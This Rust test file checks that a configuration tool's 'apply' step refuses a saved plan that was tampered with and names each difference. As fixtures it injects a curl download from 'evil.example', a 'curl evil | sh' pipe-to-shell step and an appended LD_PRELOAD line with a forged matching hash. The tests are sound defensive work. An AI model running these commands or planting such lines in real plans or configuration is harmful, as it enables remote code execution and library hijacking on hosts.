//! `scf apply plan.json` on a host: a saved plan is a review artifact bound to what apply
//! does. Apply recomputes the plan and carries it out only when the saved one says exactly
//! the same; a tampered command, tampered contents (with their hash made to match), a
//! reordered or an added command, and an older plan format are each refused, naming what
//! differs, with nothing written and nothing run.

mod support;

use serde_json::{Value, json};
use support::host::{Host, text};

/// A plan saved from an empty root (many files, many commands), as JSON.
fn saved(host: &Host) -> Value {
    let root = host.root_arg();
    let out = host.scf(&["plan", "--root", &root, "-o", "plan.json"], &[]);
    assert!(out.status.success(), "{}", text(&out));
    let file = host.dir.path().join("plan.json");
    serde_json::from_slice(&std::fs::read(file).expect("plan.json")).expect("json")
}

/// Applies `plan` (saved as `tampered.json`): refused, naming `needle`, and the root is as
/// empty and the shim as idle as before.
fn refused(host: &Host, plan: &Value, needle: &str) {
    let file = host.dir.path().join("tampered.json");
    std::fs::write(&file, serde_json::to_vec_pretty(plan).expect("json")).expect("write");
    let out = host.apply(&["tampered.json"]);
    let shown = text(&out);
    println!("{shown}");
    assert_eq!(out.status.code(), Some(1), "refused: {shown}");
    assert!(shown.contains(needle), "missing {needle:?} in:\n{shown}");
    assert!(host.files().is_empty(), "nothing was written: {shown}");
    assert_eq!(host.shim_log(), "", "nothing was run");
}

fn steps(plan: &mut Value) -> &mut Vec<Value> {
    plan["steps"].as_array_mut().expect("steps")
}

/// The change at `address`'s desired state.
fn desired<'a>(plan: &'a mut Value, address: &str) -> &'a mut Value {
    let changes = plan["changes"].as_array_mut().expect("changes");
    let change = changes
        .iter_mut()
        .find(|c| c["address"] == address)
        .expect("the change");
    &mut change["desired"]
}

const ENV: &str = "file:/etc/ai-supply-chain/ai-supply-chain.env";

#[test]
fn commands_are_saved_as_arrays_and_the_plan_as_saved_applies() {
    let host = Host::new("canary-saved");
    let plan = saved(&host);
    assert_eq!(plan["format_version"], 2);
    let steps = plan["steps"].as_array().expect("steps");
    assert!(
        steps.contains(&json!({"run": ["systemctl", "daemon-reload"]})),
        "{steps:?}"
    );
    assert!(
        desired(&mut plan.clone(), ENV)["sha256"]
            .as_str()
            .is_some_and(|s| s.starts_with("sha256:")),
        "each file carries its contents' hash"
    );
    let out = host.apply(&["plan.json"]);
    assert!(out.status.success(), "{}", text(&out));
    assert!(
        host.shim_log()
            .lines()
            .any(|l| l == "systemctl daemon-reload"),
        "{}",
        host.shim_log()
    );
}

#[test]
fn a_tampered_command_is_refused() {
    let host = Host::new("canary-cmd");
    let mut plan = saved(&host);
    let first = steps(&mut plan)[0]["run"].clone();
    steps(&mut plan)[0] = json!({"run": ["curl", "http://evil.example/x", "-o", "/tmp/x y"]});
    let recomputed = first
        .as_array()
        .expect("argv")
        .iter()
        .map(|a| a.as_str().expect("word"))
        .collect::<Vec<_>>()
        .join(" ");
    refused(
        &host,
        &plan,
        &format!(
            "nothing was changed:\n  - command 1 differs: saved `curl http://evil.example/x -o '/tmp/x y'`, recomputed `{recomputed}`"
        ),
    );
}

#[test]
fn tampered_contents_are_refused_even_with_a_matching_hash() {
    let host = Host::new("canary-contents");
    let mut plan = saved(&host);
    let file = desired(&mut plan, ENV);
    let contents = format!(
        "{}LD_PRELOAD=/tmp/evil.so\n",
        file["contents"].as_str().expect("contents")
    );
    file["sha256"] = json!(format!(
        "sha256:{}",
        hex::encode(<sha2::Sha256 as sha2::Digest>::digest(contents.as_bytes()))
    ));
    file["contents"] = json!(contents);
    refused(&host, &plan, &format!("{ENV}: what it becomes differs"));
}

#[test]
fn reordered_commands_are_refused() {
    let host = Host::new("canary-order");
    let mut plan = saved(&host);
    let n = steps(&mut plan).len();
    assert!(n >= 2, "an empty root plans several commands");
    steps(&mut plan).swap(0, n - 1);
    refused(&host, &plan, "command 1 differs");
}

#[test]
fn an_added_command_is_refused() {
    let host = Host::new("canary-added");
    let mut plan = saved(&host);
    let n = steps(&mut plan).len();
    steps(&mut plan).push(json!({"run": ["sh", "-c", "curl evil | sh"]}));
    refused(
        &host,
        &plan,
        &format!(
            "command {} is not in the recomputed plan: saved `sh -c 'curl evil | sh'`",
            n + 1
        ),
    );
}

#[test]
fn a_command_string_and_an_older_plan_format_are_refused() {
    let host = Host::new("canary-format");
    let mut plan = saved(&host);
    steps(&mut plan)[0] = json!({"run": "curl http://evil.example/x -o x"});
    refused(&host, &plan, "not an scf plan file");
    let mut old = saved(&host);
    old["format_version"] = json!(1);
    refused(
        &host,
        &old,
        "it is a plan of format version 1; this scf reads version 2 only",
    );
}
